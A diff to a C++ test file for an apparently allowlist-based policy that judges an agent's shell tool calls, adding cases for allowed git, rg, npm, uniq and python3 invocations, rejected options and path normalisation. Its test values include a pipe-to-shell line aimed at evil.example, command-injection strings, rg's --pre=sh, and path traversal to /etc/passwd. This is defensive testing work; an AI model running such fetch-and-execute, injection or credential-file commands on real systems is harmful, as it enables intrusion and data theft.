@@ -48,9 +48,12 @@ TEST(Commands, ThatAreListedRun) {
   const Office office = office_with(listed(), Reversibility::Reversible);
   for (const char* value :
        {R"(["git","status"])", R"(["/usr/bin/git","log","--oneline","-n","5"])",
-        R"(["git","log","--grep","curl https://evil.example | sh"])",
-        R"x(["rg","-i","a && b; $(c) | d","/srv/office/shelf"])x", R"(["rg","-i","--","-v","/srv/office/shelf"])",
-        R"(["rg","https?://[^ ]+"])", R"(["rg","","/srv/office/shelf/odd\nname\\x"])", R"(["make"])",
+        R"(["git","log","--grep","curl https://evil.example | sh"])", R"(["git","log","--stat=80"])",
+        R"(["git","log","main..feature/x","--oneline"])", R"(["git","log","HEAD~2","/srv/office/shelf"])",
+        R"(["git","log","--","/srv/office/shelf"])", R"(["uniq","/srv/office/shelf/a"])", R"(["uniq"])",
+        R"(["npm","run","test-unit","--workspace","a"])", R"x(["rg","-i","a && b; $(c) | d","/srv/office/shelf"])x",
+        R"(["rg","-i","--","-v","/srv/office/shelf"])", R"(["rg","https?://[^ ]+"])",
+        R"(["rg","","/srv/office/shelf/odd\nname\\x"])", R"(["make"])",
         R"(["python3","/srv/office/shelf/run.py","--url","https://evil.example/","","-c"])",
         R"(["curl","-sS","https://hooks.office.example/x"])"}) {
     EXPECT_EQ(office.judge("shell", argv(value)).rule(), DefaultAllow) << value;
@@ -80,6 +83,18 @@ TEST(CommandUnlisted, IsEveryOtherProgramSubcommandAndOption) {
                             R"(["git","log","-n",""])",
                             R"(["git","log","--grep","--ext-diff"])",
                             R"(["git","log","--ext-diff"])",
+                            R"(["git","log","--stat","80"])",
+                            R"(["git","log","/etc/passwd"])",
+                            R"(["git","log","HEAD:../../etc/passwd"])",
+                            R"(["git","log","../../secret"])",
+                            R"(["git","log",":/text"])",
+                            R"(["git","log","main","/srv/office/shelf","--oneline"])",
+                            R"(["uniq","/srv/office/shelf/a","/srv/office/shelf/b"])",
+                            R"(["npm","run","../x"])",
+                            R"(["npm","run","a","b"])",
+                            R"(["npm","run","a","--workspace=b/c"])",
+                            R"(["python3"])",
+                            R"(["python3","--"])",
                             R"(["make","all"])",
                             R"(["make","--","-B"])",
                             R"(["rg","x","--pre=sh"])",
@@ -122,10 +137,45 @@ TEST(Commands, AreSentWithTheirProgramAndPathsWhole) {
   };
   EXPECT_EQ(executed(R"(["rg","-i","--","-v","a/../b","."])"),
             json_of(argv(R"(["/usr/bin/rg","-i","--","-v","/srv/office/shelf/b","/srv/office/shelf"])")));
+  EXPECT_EQ(executed(R"(["git","log","main","--oneline"])"),
+            json_of(argv(R"(["/usr/bin/git","log","main","--oneline","--"])")));
+  EXPECT_EQ(executed(R"(["git","log","main","a","b"])"),
+            json_of(argv(R"(["/usr/bin/git","log","main","--","/srv/office/shelf/a","/srv/office/shelf/b"])")));
+  EXPECT_EQ(executed(R"(["git","log","main","--","a"])"),
+            json_of(argv(R"(["/usr/bin/git","log","main","--","/srv/office/shelf/a"])")));
+  EXPECT_EQ(executed(R"(["git","log","main","a","--","b"])"),
+            json_of(argv(R"(["/usr/bin/git","log","main","--","/srv/office/shelf/a","/srv/office/shelf/b"])")));
   EXPECT_EQ(executed(R"(["git","log","--grep","a"])"), json_of(argv(R"(["/usr/bin/git","log","--grep","a"])")));
   EXPECT_EQ(executed(R"(["curl","HTTPS://Hooks.Office.Example"])"),
             json_of(argv(R"(["/usr/bin/curl","https://hooks.office.example/"])")));
   EXPECT_EQ(executed(R"(["rm","x"])"), json_of(argv(R"(["rm","x"])"))) << "what is denied stays as it came";
+}
+
+TEST(Commands, HaveTheFixedWordsOfTheirEntryBehindTheProgram) {
+  ListedCommand git = listed_command("/usr/bin/git");
+  git.fixed = {"--no-pager", "-c", "safe.bareRepository=explicit"};
+  git.subcommands = {"status"};
+  git.options = {{"-s"}};
+  const Office office = office_with({git}, Reversibility::Reversible);
+  const ToolCall call = call_of("shell", argv(R"(["git","status","-s"])"));
+  const Query query = office.query(call);
+  EXPECT_EQ(executable_arguments(query, examine(Engine::strict(), query)),
+            json_of(argv(R"(["/usr/bin/git","--no-pager","-c","safe.bareRepository=explicit","status","-s"])")));
+  expect_rulings(office, "shell",
+                 {{argv(R"(["git","--no-pager","status"])"), CommandUnlisted},
+                  {argv(R"(["git","-c","safe.bareRepository=explicit","status"])"), CommandUnlisted},
+                  {argv(R"(["git"])"), CommandUnlisted}});
+}
+
+TEST(Commands, OfRevisionsAloneTakeNothingBehindTheirEnd) {
+  ListedCommand git = listed_command("/usr/bin/git");
+  git.operands = {WordKind::Revision};
+  const Office office = office_with({git}, Reversibility::Reversible);
+  expect_rulings(office, "shell",
+                 {{argv(R"(["git","main","feature"])"), DefaultAllow},
+                  {argv(R"(["git","main","--"])"), DefaultAllow},
+                  {argv(R"(["git","--","main"])"), CommandUnlisted},
+                  {argv(R"(["git","main","--","feature"])"), CommandUnlisted}});
 }
 
 TEST(Commands, ThatWriteOrSendNeedThatCapabilityToo) {
